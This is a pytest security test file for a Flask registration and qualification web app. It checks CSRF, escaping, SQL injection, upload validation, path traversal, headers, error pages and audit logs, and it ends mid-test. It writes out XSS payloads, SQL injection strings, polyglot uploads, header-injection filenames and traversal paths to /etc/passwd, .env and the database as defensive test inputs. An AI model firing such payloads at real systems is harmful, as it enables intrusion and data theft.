"""Hostile input: CSRF, reflected markup, SQL injection, uploads, downloads, path tricks,
security headers, error pages, spreadsheet formulas in exports, and what the logs keep.

Checklist items 16, 19-26, 28-30, 32, 38 (see SECURITY.md); the rest of 21-25 is in
test_registration.py, test_qualification_web.py and test_storage.py.
"""

from __future__ import annotations

import ast
import csv
import io
import logging
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest

import models
from helpers import (
    JPEG_BYTES,
    MINIMAL_PDF,
    PASSWORD,
    csrf_token_from,
    documents_payload,
    login,
    png_bytes,
    registration_data,
    staff_client_for,
)
from test_security_matrix import NOT_5XX, admin_views, all_cells, build_world, fingerprint

ROOT = Path(__file__).resolve().parent.parent
UUID_NAME = re.compile(r"[0-9a-f]{2}/[0-9a-f]{32}\.(pdf|jpg|png)")
XSS = '"><script>alert(1)</script><img src=x onerror=alert(1)>'
RAW_MARKUP = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")


def files_under(root) -> list[str]:
    """Stored documents (the store's own tmp/ folder of uploads in progress is left out)."""
    skip = os.path.join(str(root), "tmp")
    return [os.path.join(r, f) for r, _d, fs in os.walk(root) for f in fs if not r.startswith(skip)]


# ---------------------------------------------------------------------- 16: CSRF


@pytest.fixture
def csrf_app(app):
    from app import create_app

    return create_app(dict(app.config, WTF_CSRF_ENABLED=True))


LOGIN_PATHS = {
    "officer": "/officer/login",
    "other_officer": "/officer/login",
    "distributor": "/distributor/login",
    "other_distributor": "/distributor/login",
    "reviewer_a": "/admin/login",
    "reviewer_b": "/admin/login",
    "directorate": "/admin/login",
}


def login_with_token(app, path, username, password=PASSWORD):
    client = app.test_client()
    token = csrf_token_from(client.get(path).get_data(as_text=True))
    assert token, path
    response = client.post(path, data={"username": username, "password": password, "csrf_token": token})
    assert response.status_code == 302, (path, response.status_code)
    return client


def usernames(world):
    o = world.objects
    return {
        "officer": o["officer_a"].user_code,
        "other_officer": o["officer_q"].user_code,
        "distributor": "pakhsh_one",
        "other_distributor": "pakhsh_two",
        "reviewer_a": "rev_tehran",
        "reviewer_b": "rev_isfahan",
        "directorate": "director",
    }


def allowed_role(cell) -> str:
    """The role for which the route really runs (so the refusal is CSRF's, not access control's)."""
    for role in ("directorate", "reviewer_a", "officer", "other_officer", "distributor", "anonymous"):
        expected = cell.expect[role]
        if expected == 200 or expected == NOT_5XX or str(expected).startswith("redirect:"):
            return role
    return "anonymous"


def test_every_post_without_a_token_is_refused(csrf_app, make_officer, make_staff, dbc):
    world = build_world(csrf_app, make_officer, make_staff, login_clients=False)
    names = usernames(world)
    clients = {role: login_with_token(csrf_app, LOGIN_PATHS[role], names[role]) for role in LOGIN_PATHS}
    clients["anonymous"] = csrf_app.test_client()
    cells = [c for c in all_cells(csrf_app, world) if c.method == "POST"]
    assert len({c.endpoint for c in cells}) >= 18 * 5 + 20  # every admin view's POST routes and the rest
    before = fingerprint()
    problems = []
    for cell in cells:
        role = allowed_role(cell)
        response = clients[role].post(cell.url, data=cell.body)
        if response.status_code != 400:
            problems.append(f"{role} POST {cell.url}: {response.status_code}")
        # Another content type does not slip past the check either.
        response = clients[role].post(cell.url, json=cell.body)
        if response.status_code != 400:
            problems.append(f"{role} POST(json) {cell.url}: {response.status_code}")
    assert not problems, "\n".join(problems)
    assert fingerprint() == before
    # Logging out without a token did not log anyone out.
    assert clients["officer"].get("/officer/").status_code == 200
    assert clients["directorate"].get("/admin/").status_code == 200
    assert clients["distributor"].get("/distributor/").status_code == 200
    # A login form posted without its token is refused before the password is even checked.
    response = csrf_app.test_client().post("/officer/login", data={"username": names["officer"], "password": PASSWORD})
    assert response.status_code == 400


def test_a_token_from_another_session_is_refused_and_a_real_one_works(csrf_app, make_officer, make_staff, dbc):
    world = build_world(csrf_app, make_officer, make_staff, login_clients=False)
    names = usernames(world)
    reviewer = login_with_token(csrf_app, "/admin/login", names["reviewer_a"])
    attacker = login_with_token(csrf_app, "/admin/login", names["reviewer_b"])
    url = f"/admin/qualification/review/?id={world['qa']}"
    own_token = csrf_token_from(reviewer.get(url).get_data(as_text=True))
    attacker_token = csrf_token_from(attacker.get("/admin/qualification/").get_data(as_text=True)) or csrf_token_from(
        attacker.get(f"/admin/qualification/review/?id={world['qisf']}").get_data(as_text=True)
    )
    assert own_token and attacker_token and own_token != attacker_token
    data = {"decision": "deficiency", "note": "کارت ملی ناخواناست"}
    assert reviewer.post(url, data=dict(data, csrf_token=attacker_token)).status_code == 400
    assert reviewer.post(url, data=dict(data, csrf_token="x" + own_token[1:])).status_code == 400
    assert models.QualificationRequest.get_by_id(world["qa"]).status == "submitted"
    assert reviewer.post(url, data=dict(data, csrf_token=own_token)).status_code == 302
    assert models.QualificationRequest.get_by_id(world["qa"]).status == "deficient"
    # What the external scanner tried on every back-office form (see SECURITY.md): the
    # page's own token passes, the same form with the token replaced does not.
    director = login_with_token(csrf_app, "/admin/login", names["directorate"])
    for view in ("city", "province", "university", "field", "holiday", "message", "staff", "distributor"):
        html = director.get(f"/admin/{view}/new/").get_data(as_text=True)
        token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', html).group(1)
        form = {"name": "", "_add_another": "1"}
        assert (
            director.post(
                f"/admin/{view}/new/", content_type="multipart/form-data", data=dict(form, csrf_token=token)
            ).status_code
            == 200
        ), view
        assert (
            director.post(
                f"/admin/{view}/new/", content_type="multipart/form-data", data=dict(form, csrf_token="wapiti")
            ).status_code
            == 400
        ), view
    # Logout and the language switch work with their token.
    officer = login_with_token(csrf_app, "/officer/login", names["officer"])
    token = csrf_token_from(officer.get("/officer/profile/edit").get_data(as_text=True))
    response = officer.post("/lang/en", data={"csrf_token": token, "next": "/officer/"})
    assert response.status_code == 302 and "lang=en" in response.headers.get("Set-Cookie", "")
    assert officer.post("/officer/logout", data={"csrf_token": token}).status_code == 302
    assert officer.get("/officer/").status_code == 302


# ---------------------------------------------------------------------- 19: reflected input

ON_POSTGRES = os.environ.get("TEST_DATABASE_URL", "").startswith("postgres")


def text_filters(view) -> list[int]:
    """Indexes of a view's filters on text columns (id filters are tested on their own)."""
    from peewee import CharField, TextField

    return [
        i for i, f in enumerate(view._filters or []) if isinstance(getattr(f, "column", None), (CharField, TextField))
    ]


def assert_escaped(body: str, where: str):
    for raw in RAW_MARKUP:
        assert raw not in body, f"{where}: {raw} reflected unescaped"
    # (Flask-Admin's own menus carry a constant href="javascript:void(0)")
    assert not re.search(r"""(href|src|action|formaction)\s*=\s*["']?\s*javascript:(?!void\(0\))""", body, re.I), where


def test_reflected_payloads_are_escaped(app, make_officer, make_staff, dbc):
    world = build_world(app, make_officer, make_staff)
    app.config["PROPAGATE_EXCEPTIONS"] = False
    anon, director, reviewer = (world.clients[r] for r in ("anonymous", "directorate", "reviewer_a"))
    from urllib.parse import quote

    p = quote(XSS)
    public = [
        f"/verify?q={p}",
        f"/officer/login?next={p}",
        f"/distributor/login?next={p}",
        f"/admin/login?next={p}",
        f"/officer/password/reset/confirm?username={p}",
        f"/no-such-page/{p}",
        "/officer/login?next=javascript:alert(1)",
        "/admin/login?next=javascript:alert(1)",
    ]
    for url in public:
        response = anon.get(url)
        assert response.status_code < 500, url
        assert_escaped(response.get_data(as_text=True), url)
    checked = 0
    for view, view_object in admin_views(app).items():
        client = reviewer if view in ("qualification", "cooperation", "editrequest") else director
        text = text_filters(view_object)
        filters = f"flt0_{text[0]}={p}&flt1_{text[-1]}={p}&" if text else ""
        for url in (
            f"/admin/{view}/?search={p}",
            f"/admin/{view}/?{filters}search={p}",
            f"/admin/{view}/?sort={p}&desc={p}&page={p}",
            f"/admin/{view}/new/?url={p}",
            f"/admin/{view}/details/?id={p}&url={p}",
            f"/admin/{view}/details/?id=1&url=javascript:alert(1)",
            f"/admin/{view}/edit/?id=1&url=javascript:alert(1)",
        ):
            response = client.get(url)
            assert response.status_code < 500, url
            assert_escaped(response.get_data(as_text=True), url)
            location = response.headers.get("Location", "")
            assert not location.lower().startswith("javascript") and "evil" not in location
            checked += 1
    assert checked >= 18 * 7
    # A reviewer-facing page reflecting the search keeps it as text.
    body = reviewer.get(f"/admin/qualification/?search={p}").get_data(as_text=True)
    assert "&lt;script&gt;" in body or "&#34;&gt;&lt;script" in body or "&lt;img" in body


# ---------------------------------------------------------------------- 20: SQL injection

INJECTIONS = ["' OR 1=1--", "%' UNION SELECT password_hash FROM officer--"]
BAD_LIST_ARGS = (
    "sort=999&desc=abc",
    "sort=-1&page=abc",
    "sort=1%20OR%201=1&page=99999",
    "flt0_999=x&fltabc=x",
    "page_size=100000",
)


def test_sql_injection_in_search_sort_filters_and_pages(app, make_officer, make_staff, dbc):
    world = build_world(app, make_officer, make_staff)
    app.config["PROPAGATE_EXCEPTIONS"] = False
    director, reviewer_b = world.clients["directorate"], world.clients["reviewer_b"]
    from urllib.parse import quote

    b_ids = {str(world[k]) for k in ("qisf", "coop_p", "edit_p")}
    before = fingerprint()
    for view, view_object in admin_views(app).items():
        shared = view in ("qualification", "cooperation", "editrequest")
        client = reviewer_b if shared else director
        text = text_filters(view_object)
        for n, injection in enumerate(INJECTIONS):
            urls = [f"/admin/{view}/?search={quote(injection)}"]
            if n == 0:
                urls.append(f"/admin/{view}/export/csv/?search={quote(injection)}")
            if text:
                urls.append(f"/admin/{view}/?flt0_{text[0]}={quote(injection)}")
            for url in urls:
                response = client.get(url)
                assert response.status_code < 500, (url, response.status_code)
                body = response.get_data(as_text=True)
                assert "$argon2id$" not in body, url
                if shared:  # never a record of university A
                    shown = set(re.findall(r"review/\?id=(\d+)", body))
                    assert shown <= b_ids, (url, shown)
        for query in BAD_LIST_ARGS:
            response = client.get(f"/admin/{view}/?{query}")
            assert response.status_code < 500, (view, query, response.status_code)
        assert client.get(f"/admin/{view}/export/csv/?sort=-1&desc=abc").status_code < 500
    for q in INJECTIONS:
        assert world.clients["anonymous"].get(f"/verify?q={quote(q)}").status_code == 200
    assert fingerprint() == before
    assert models.Officer.select().count() == 4


def test_a_huge_or_negative_page_number_is_not_a_server_error(app, make_staff, dbc):
    director = staff_client_for(app, make_staff("directorate"))
    app.config["PROPAGATE_EXCEPTIONS"] = False
    failures = [
        (view, page)
        for view in ("officer", "audit", "city")
        for page in ("99999999999999999999", "-5")
        if director.get(f"/admin/{view}/?page={page}").status_code >= 500
    ]
    assert not failures, failures


def test_a_non_numeric_value_in_an_id_filter_is_not_a_server_error(app, make_staff, dbc):
    from peewee import ForeignKeyField, IntegerField

    director = staff_client_for(app, make_staff("directorate"))
    app.config["PROPAGATE_EXCEPTIONS"] = False
    failures = []
    for name, view in admin_views(app).items():
        for index, flt in enumerate(view._filters or []):
            numeric = isinstance(getattr(flt, "column", None), (ForeignKeyField, IntegerField))
            if numeric and director.get(f"/admin/{name}/?flt0_{index}=abc").status_code >= 500:
                failures.append((name, index))
    assert not failures, failures


def test_nul_bytes_in_input_are_not_a_server_error(app, make_staff, dbc):
    director = staff_client_for(app, make_staff("directorate"))
    app.config["PROPAGATE_EXCEPTIONS"] = False
    anonymous = app.test_client()
    statuses = {
        "verify": anonymous.get("/verify?q=0499%00370899").status_code,
        "officer login": anonymous.post("/officer/login", data={"username": "a\x00b", "password": "x" * 9}).status_code,
        "distributor login": anonymous.post(
            "/distributor/login", data={"username": "a\x00", "password": "x"}
        ).status_code,
        "admin search": director.get("/admin/officer/?search=a%00b").status_code,
        "audit filter": director.get("/admin/audit/?flt0_0=%00").status_code,
    }
    assert all(status < 500 for status in statuses.values()), statuses


def test_every_sort_index_is_safe(app, make_staff, dbc):
    director = staff_client_for(app, make_staff("directorate"))
    app.config["PROPAGATE_EXCEPTIONS"] = False
    failures = []
    for name, view in admin_views(app).items():
        columns = [c for c, _label in view._list_columns]
        # the first column that is not sortable, the first that is, and one past the end
        unsortable = [i for i, c in enumerate(columns) if c not in view._sortable_columns][:1]
        sortable = [i for i, c in enumerate(columns) if c in view._sortable_columns][:1]
        for index in unsortable + sortable + [len(columns)]:
            url = f"/admin/{name}/?sort={index}&desc=1"
            if director.get(url).status_code >= 500:
                failures.append(url)
    assert not failures, failures


SQL_CALLS = {"execute_sql", "SQL", "raw"}


def formatted_sql_calls(root: Path) -> list[tuple[str, int, str]]:
    """A small semgrep: calls to execute_sql/SQL/.raw whose SQL text is built with an
    f-string, ``%`` or ``+`` concatenation, or ``.format`` (so could carry user data)."""
    found = []
    for path in sorted(root.rglob("*.py")):
        rel = path.relative_to(root).as_posix()
        if rel.startswith((".venv/", "tests/", "node_modules/", "build/")):
            continue
        source = path.read_text(encoding="utf-8")
        tree = ast.parse(source, filename=rel)
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call) or not node.args:
                continue
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            if name not in SQL_CALLS:
                continue
            arg = node.args[0]
            dynamic = (
                isinstance(arg, ast.JoinedStr)
                and any(isinstance(v, ast.FormattedValue) for v in arg.values)
                or isinstance(arg, ast.BinOp)
                and isinstance(arg.op, (ast.Mod, ast.Add))
                or isinstance(arg, ast.Call)
                and isinstance(arg.func, ast.Attribute)
                and arg.func.attr == "format"
            )
            if dynamic:
                # The whole call, however the formatter wraps it, is what a reviewer read.
                found.append((rel, node.lineno, " ".join(ast.get_source_segment(source, node).split())))
    return found


# Reviewed: each builds SQL from values that never come from a request.
REVIEWED_SQL = {
    # The export cursor: {sql} is peewee's own compiled SELECT, its values passed separately as params.
    ("backoffice/export.py", "DECLARE export_rows NO SCROLL CURSOR FOR {sql}"),
    # {int(size)} is a constant of the module, forced to int.
    ("backoffice/export.py", "FETCH FORWARD {int(size)} FROM export_rows"),
    # Server-side prepared statements: a generated name and peewee's own compiled SELECT;
    # the values go separately as params.
    ("models/prepared.py", "PREPARE {self._name} AS {server_sql}"),
    ("models/prepared.py", "EXECUTE {self._name}{arguments}"),
    # The benchmark's data generator: table, constraint and index names from the schema.
    ("bench/generate.py", "ALTER TABLE {table} DROP CONSTRAINT"),
    ("bench/generate.py", "ALTER TABLE {table} ADD CONSTRAINT"),
    ("bench/generate.py", "DROP INDEX IF EXISTS"),
    ("bench/generate.py", "SELECT setval(pg_get_serial_sequence"),
    # The backup: the destination path typed by the operator on the command line (VACUUM INTO).
    ("backup.py", "VACUUM INTO"),
}


def test_no_sql_is_built_by_string_formatting():
    found = formatted_sql_calls(ROOT)
    unreviewed = [
        (f, n, line) for f, n, line in found if not any(f == rf and snippet in line for rf, snippet in REVIEWED_SQL)
    ]
    assert not unreviewed, "SQL built by formatting; use parameters or review it:\n" + "\n".join(
        f"{f}:{n}: {line}" for f, n, line in unreviewed
    )


def test_the_sql_scan_finds_what_it_should(tmp_path):
    (tmp_path / "bad.py").write_text(
        "db.execute_sql(f\"SELECT * FROM officer WHERE national_code = '{code}'\")\n"
        'SQL("name = \'%s\'" % name)\nModel.raw("x" + y)\nSQL("a {}".format(b))\n'
        'db.execute_sql("SELECT 1 WHERE x = ?", (value,))\nSQL("1")\n'
    )
    assert [n for _f, n, _l in formatted_sql_calls(tmp_path)] == [1, 2, 3, 4]


# ---------------------------------------------------------------------- 21: national codes


def test_national_code_normalised_checked_and_unique(client, dbc):
    """Persian digits normalised, bad checksum refused, a duplicate after normalisation refused.
    (More cases: test_registration.py and test_persian.py.)"""
    assert client.post("/officer/register", data=registration_data(national_code="۰۴۹۹۳۷۰۸۹۹")).status_code == 200
    assert models.Officer.get().national_code == "0499370899"
    bad = client.post("/officer/register", data=registration_data(national_code="0499370898", mobile="09351112233"))
    assert bad.status_code == 422
    for typed in ("٠٤٩٩٣٧٠٨٩٩", "\u200f0499370899", "0499 370 899"):
        duplicate = client.post("/officer/register", data=registration_data(national_code=typed, mobile="09351112234"))
        assert duplicate.status_code == 422, typed
    assert models.Officer.select().count() == 1


# ---------------------------------------------------------------------- 22: body size


def multipart(fields: dict, files: dict) -> tuple[bytes, str]:
    boundary = "----securitytestboundary"
    parts = []
    for name, value in fields.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
    for name, (content, filename) in files.items():
        parts.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
            f"Content-Type: application/pdf\r\n\r\n".encode()
            + content
            + b"\r\n"
        )
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def test_body_of_max_content_length_plus_one_is_413_with_nothing_left(app, officer_client, dbc):
    body, content_type = multipart({"action": "save"}, {"doc_degree": (MINIMAL_PDF + b"0" * 4000, "a.pdf")})
    app.config["MAX_CONTENT_LENGTH"] = len(body) - 1
    response = officer_client.post("/officer/qualification/new", data=body, content_type=content_type)
    assert response.status_code == 413
    assert "۵ مگابایت" in response.get_data(as_text=True) or "5 MB" in response.get_data(as_text=True)
    assert models.Document.select().count() == 0 and models.QualificationRequest.select().count() == 0
    assert files_under(app.config["UPLOAD_DIR"]) == []
    # Exactly the limit is accepted.
    app.config["MAX_CONTENT_LENGTH"] = len(body)
    assert officer_client.post("/officer/qualification/new", data=body, content_type=content_type).status_code == 302
    assert models.Document.select().count() == 1


def test_oversized_form_fields_are_413(app, client, dbc):
    # A multipart text field over MAX_FORM_MEMORY_SIZE (1 MB)...
    response = client.post(
        "/officer/register", content_type="multipart/form-data", data=registration_data(address="ا" * (600 * 1024))
    )
    assert response.status_code == 413
    # ...and a url-encoded body over MAX_CONTENT_LENGTH (Werkzeug applies only that one to it).
    app.config["MAX_CONTENT_LENGTH"] = 64 * 1024
    response = client.post("/officer/register", data=registration_data(address="ا" * (64 * 1024)))
    assert response.status_code == 413
    assert models.Officer.select().count() == 0


# ---------------------------------------------------------------------- 23, 24: upload content and names

DISGUISED = [
    (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "scan.jpg"),
    (b"\xef\xbb\xbf<html><body onload=alert(1)>", "report.pdf"),
    (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "photo.png"),
    (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "a.pdf"),
    (JPEG_BYTES[:20] + b"<script>alert(1)</script>" + JPEG_BYTES[20:], "polyglot.jpg"),
    (png_bytes()[:33] + b"<svg onload=alert(1)>" + png_bytes()[33:], "polyglot.png"),
    (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "anim.gif"),
    (b"  %PDF-1.4 leading spaces", "space.pdf"),
    (b"PK\x03\x04 a zip or docx", "cv.docx"),
    (b"\x89PNG\r\n\x1a\n" + b"\x00" * 20, "no-ihdr.png"),
]


def test_disguised_and_polyglot_uploads_are_refused_on_every_upload_route(app, make_officer, dbc):
    officer = make_officer()
    qualified = make_officer(qualified=True)
    first, second = app.test_client(), app.test_client()
    login(first, "/officer/login", officer.user_code)
    login(second, "/officer/login", qualified.user_code)
    for content, name in DISGUISED:
        r1 = first.post(
            "/officer/qualification/new",
            content_type="multipart/form-data",
            data={"action": "save", "doc_photo": (io.BytesIO(content), name)},
        )
        r2 = second.post(
            "/officer/edit-requests/new",
            content_type="multipart/form-data",
            data={"action": "submit", "doc_degree": (io.BytesIO(content), name)},
        )
        assert (r1.status_code, r2.status_code) == (422, 422), name
    assert models.Document.select().count() == 0 and models.EditRequest.select().count() == 0
    assert files_under(app.config["UPLOAD_DIR"]) == []
    # The real thing, for contrast, is accepted.
    r = first.post(
        "/officer/qualification/new",
        content_type="multipart/form-data",
        data={"action": "save", "doc_photo": (io.BytesIO(JPEG_BYTES), "photo.jpg")},
    )
    assert r.status_code == 302 and len(files_under(app.config["UPLOAD_DIR"])) == 1


def test_path_names_are_only_labels_and_same_names_are_both_kept(app, officer_client, dbc, tmp_path):
    upload_dir = Path(app.config["UPLOAD_DIR"])
    for name, kind in (
        ("../../x.pdf", "degree"),
        ("..\\..\\x.pdf", "national_card"),
        ("/etc/passwd.pdf", "id_booklet"),
        ("مدرک.pdf", "other"),
        ("مدرک.pdf", "other"),
    ):
        response = officer_client.post(
            "/officer/qualification/new",
            content_type="multipart/form-data",
            data={"action": "save", f"doc_{kind}": (io.BytesIO(MINIMAL_PDF), name)},
        )
        assert response.status_code == 302
    documents = list(models.Document.select().order_by(models.Document.id))
    names = [d.display_name for d in documents]
    # (the test client's multipart encoder turns "..\\x" into "....x": a label either way)
    assert names[0] == "x.pdf" and names[1].endswith("x.pdf") and names[2:] == ["passwd.pdf", "مدرک.pdf", "مدرک.pdf"]
    assert not any("/" in n or "\\" in n for n in names)
    assert all(UUID_NAME.fullmatch(d.storage_name) for d in documents)
    assert len({d.storage_name for d in documents}) == 5
    stored = sorted(os.path.relpath(f, upload_dir) for f in files_under(upload_dir))
    assert stored == sorted(d.storage_name for d in documents)  # both مدرک.pdf kept
    for outside in (upload_dir.parent / "x.pdf", upload_dir.parent.parent / "x.pdf", ROOT / "x.pdf"):
        assert not outside.exists()


# ---------------------------------------------------------------------- 25: download headers


def test_download_headers(app, officer_client, make_staff, dbc):
    officer_client.post(
        "/officer/qualification/new",
        content_type="multipart/form-data",
        data={"action": "submit", **documents_payload()},
    )
    pdf = models.Document.get(models.Document.content_type == "application/pdf")
    jpeg = models.Document.get(models.Document.content_type == "image/jpeg")
    models.Document.update(display_name='a"\r\nX-Injected: 1 مدرک.pdf').where(models.Document.id == pdf.id).execute()
    response = officer_client.get(f"/officer/documents/{pdf.id}")
    headers = response.headers
    assert response.status_code == 200
    assert headers["Content-Disposition"].startswith("attachment; ")
    assert "filename*=UTF-8''" in headers["Content-Disposition"]
    assert "%D9%85%D8%AF%D8%B1%DA%A9" in headers["Content-Disposition"]  # مدرک, percent-encoded
    assert "\r" not in headers["Content-Disposition"] and "X-Injected" not in headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Type"] == "application/pdf"
    assert (
        "sandbox" in headers["Content-Security-Policy"] and "default-src 'none'" in headers["Content-Security-Policy"]
    )
    assert "no-store" in headers["Cache-Control"]
    # A row whose type is not one of the three accepted (a legacy import, a tampered row)
    # is served as a download of bytes, never as HTML.
    models.Document.update(content_type="text/html").where(models.Document.id == jpeg.id).execute()
    response = officer_client.get(f"/officer/documents/{jpeg.id}")
    assert response.headers["Content-Type"] == "application/octet-stream"
    assert response.headers["Content-Disposition"].startswith("attachment")
    # Staff: attachments and inline images keep the sandbox; an inline PDF drops it on purpose
    # (Chromium will not render a PDF under a sandboxing CSP) and keeps default-src 'none'.
    reviewer = staff_client_for(app, make_staff("university"))
    models.Document.update(content_type="image/jpeg").where(models.Document.id == jpeg.id).execute()
    for doc, inline, sandboxed in ((pdf, "", True), (jpeg, "&inline=1", True), (pdf, "&inline=1", False)):
        response = reviewer.get(f"/admin/qualification/document/?doc={doc.id}{inline}")
        assert response.status_code == 200
        csp = response.headers["Content-Security-Policy"]
        assert ("sandbox" in csp) == sandboxed and "default-src 'none'" in csp
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Type"] in ("application/pdf", "image/jpeg")


# ---------------------------------------------------------------------- 26: path tricks

TRAVERSALS = [
    "/files/..%2f..%2fapp.db",
    "/files/../../instance/app.db",
    "/static/..%2f..%2finstance/app.db",
    "/static/..%2f..%2f..%2fapp.py",
    "/static/%2e%2e/%2e%2e/%2e%2e/app.py",
    "/static/../../app.py",
    "/static/..\\..\\app.py",
    "/admin/static/..%2f..%2f..%2fapp.py",
    "/static//etc/passwd",
    "/officer/documents/..%2f..",
    "/officer/documents/..%2f..%2finstance%2fapp.db",
    "/officer/documents/1%2f..%2f..%2fapp.db",
    "/instance/app.db",
    "/instance/secret_key",
    "/.git/config",
    "/app.py",
    "/.env",
]


def test_path_tricks_are_404(app, officer_client):
    for url in TRAVERSALS:
        # (Werkzeug answers "//" in a path with a 308 to the merged path, which is then a 404)
        response = officer_client.get(url, follow_redirects=True)
        assert response.status_code == 404, (url, response.status_code)
        body = response.data
        assert b"SQLite format" not in body and b"create_app" not in body and b"root:" not in body, url


# ---------------------------------------------------------------------- 28: headers


def assert_security_headers(response, where, authenticated=False):
    h = response.headers
    hsts = re.search(r"max-age=(\d+)", h.get("Strict-Transport-Security", ""))
    assert hsts and int(hsts.group(1)) >= 31536000, where
    csp = h.get("Content-Security-Policy", "")
    assert "frame-ancestors" in csp, where
    script_src = re.search(r"script-src ([^;]*)", csp) or re.search(r"default-src ([^;]*)", csp)
    assert script_src and "'unsafe-inline'" not in script_src.group(1) and "*" not in script_src.group(1), where
    assert h.get("X-Content-Type-Options") == "nosniff", where
    assert h.get("X-Frame-Options") in ("DENY", "SAMEORIGIN"), where
    assert h.get("Referrer-Policy") in ("same-origin", "strict-origin", "strict-origin-when-cross-origin"), where
    if authenticated:
        assert "no-store" in h.get("Cache-Control", ""), where


def test_security_headers_everywhere(app, make_officer, make_staff, dbc):
    world = build_world(app, make_officer, make_staff)
    anon = world.clients["anonymous"]
    for url in (
        "/",
        "/officer/login",
        "/officer/register",
        "/verify?q=1",
        "/admin/login",
        "/static/css/app.css",
        "/no-such-page",
        f"/branch/{world['b1']}",
    ):
        assert_security_headers(anon.get(url), url)
    assert_security_headers(anon.post("/officer/logout"), "POST /officer/logout")
    assert_security_headers(anon.get("/officer/logout"), "405")
    for role, urls in {
        "officer": (
            "/officer/",
            "/officer/profile",
            f"/officer/documents/{world['doc_qa']}",
            "/static/css/app.css",
            "/no-such-page",
            f"/officer/qualification/{world['qisf']}",
        ),
        "distributor": ("/distributor/", "/no-such-page"),
        "reviewer_a": (
            "/admin/",
            "/admin/qualification/",
            f"/admin/qualification/review/?id={world['qa']}",
            "/admin/qualification/export/csv/",
            "/admin/officer/",
            f"/admin/qualification/document/?doc={world['doc_qa']}",
        ),
        "directorate": ("/admin/officer/", "/admin/audit/", "/admin/officer/export/csv/"),
    }.items():
        for url in urls:
            assert_security_headers(world.clients[role].get(url), f"{role} {url}", authenticated=True)
    # Flask-Admin's own static files too.
    rule = next(r for r in app.url_map.iter_rules() if r.endpoint == "admin.static")
    assert rule


def test_registration_result_is_not_cached(client, dbc):
    """The page that shows a new user code (an identifier to log in with) is personal data."""
    response = client.post("/officer/register", data=registration_data())
    assert response.status_code == 200
    assert "no-store" in response.headers.get("Cache-Control", "")


# ---------------------------------------------------------------------- 29: error pages


def test_an_exception_gives_a_generic_page_without_traceback_or_sql(app, dbc, caplog):
    from app import create_app

    fresh = create_app(dict(app.config, TESTING=False, PROPAGATE_EXCEPTIONS=None))
    assert fresh.debug is False and fresh.config["DEBUG"] is False
    assert fresh.config["PROPAGATE_EXCEPTIONS"] is None and not fresh.testing

    @fresh.route("/__test/boom")
    def boom():
        raise RuntimeError("secret-marker-in-exception")

    @fresh.route("/__test/sql")
    def sql():
        models.db.execute_sql("SELECT password_hash FROM no_such_table WHERE national_code = '0499370899'")

    client = fresh.test_client()
    for url in ("/__test/boom", "/__test/sql"):
        with caplog.at_level(logging.ERROR):
            response = client.get(url)
        body = response.get_data(as_text=True)
        assert response.status_code == 500
        for leak in (
            "Traceback",
            "secret-marker",
            "no_such_table",
            "SELECT",
            "password_hash",
            'File "',
            "werkzeug",
            "peewee",
            "sqlite",
            "psycopg",
            "0499370899",
        ):
            assert leak not in body, (url, leak)
        assert "<html" in body and 'role="alert"' in body
        assert_security_headers(response, url)
    # The full error goes to the log, for the operators.
    assert any("secret-marker-in-exception" in (r.exc_text or str(r.exc_info)) for r in caplog.records)


def test_debug_is_off_in_production(app, monkeypatch):
    from app import create_app

    monkeypatch.setenv("APP_ENV", "production")
    monkeypatch.setenv("SECRET_KEY", "x" * 64)
    monkeypatch.delenv("FLASK_DEBUG", raising=False)
    production = create_app({"DATABASE_URL": app.config["DATABASE_URL"], "UPLOAD_DIR": app.config["UPLOAD_DIR"]})
    assert production.debug is False and production.config["SEED_DEMO_DATA"] is False
    assert "Debugged" not in type(production.wsgi_app).__name__
    monkeypatch.delenv("SECRET_KEY")
    with pytest.raises(RuntimeError):
        create_app({"DATABASE_URL": app.config["DATABASE_URL"]})


# ---------------------------------------------------------------------- 30: audit and logs


def test_audit_rows_for_login_failure_and_decision(app, make_officer, make_staff, dbc):
    officer = make_officer()
    client = app.test_client()
    login(client, "/officer/login", officer.user_code, "Wrong-pass-99")
    login(client, "/officer/login", officer.national_code)
    client.post("/officer/profile/edit", data={"address": "تهران، خیابان آزادی، کوچه دوم، پلاک ۷"})
    client.post(
        "/officer/qualification/new",
        data={"action": "submit", **documents_payload()},
        content_type="multipart/form-data",
    )
    request = models.QualificationRequest.get()
    reviewer_staff = make_staff("university")
    reviewer = staff_client_for(app, reviewer_staff)
    reviewer.post(f"/admin/qualification/review/?id={request.id}", data={"decision": "approve", "note": "تأیید"})
    audit = models.AuditLog
    rows = {
        r.action: r
        for r in audit.select().where(audit.object_type.in_(("officer", "qualification"))).order_by(audit.id)
    }
    for action in ("login_failed", "login", "profile_changed", "qualification_submit", "qualification_approve"):
        assert action in rows, (action, list(rows))
        row = rows[action]
        assert row.at is not None and row.ip == "127.0.0.1" and row.actor_kind, action
    assert rows["login"].actor_id == officer.id and rows["login"].object_id == officer.id
    assert rows["login_failed"].object_type == "officer" and rows["login_failed"].object_id == officer.id
    assert (rows["profile_changed"].actor_kind, rows["profile_changed"].actor_id) == ("officer", officer.id)
    approve = rows["qualification_approve"]
    assert (approve.actor_kind, approve.actor_id, approve.object_type, approve.object_id) == (
        "staff",
        reviewer_staff.id,
        "qualification",
        request.id,
    )
    # The directorate reads it in the back office.
    director = staff_client_for(app, make_staff("directorate"))
    assert "qualification_approve" in director.get("/admin/audit/").get_data(as_text=True)


def test_access_denials_are_audited(app, make_officer, make_staff, dbc):
    world = build_world(app, make_officer, make_staff)
    before = models.AuditLog.select().count()
